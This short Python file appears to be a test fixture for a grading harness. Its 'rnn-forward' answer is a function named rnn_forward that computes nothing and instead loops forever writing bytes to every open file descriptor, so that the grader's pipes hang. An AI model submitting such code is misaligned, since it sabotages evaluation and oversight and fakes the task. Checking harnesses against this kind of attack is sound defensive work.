"""Write one byte at a time to every open pipe, so that whoever waits for the next
one waits for ever.
"""

ANSWERS = {
    "rnn-forward": """\
import os
import time


def rnn_forward(xs, h0, W_xh, W_hh, b_h):
    while True:
        for number in range(3, 64):
            try:
                os.write(number, b"R")
            except OSError:
                pass
        time.sleep(0.1)
""",
}
REST = "reference"
POINTS = {"rnn-step": 4, "rnn-parameters": 5, "rnn-flops": 5}
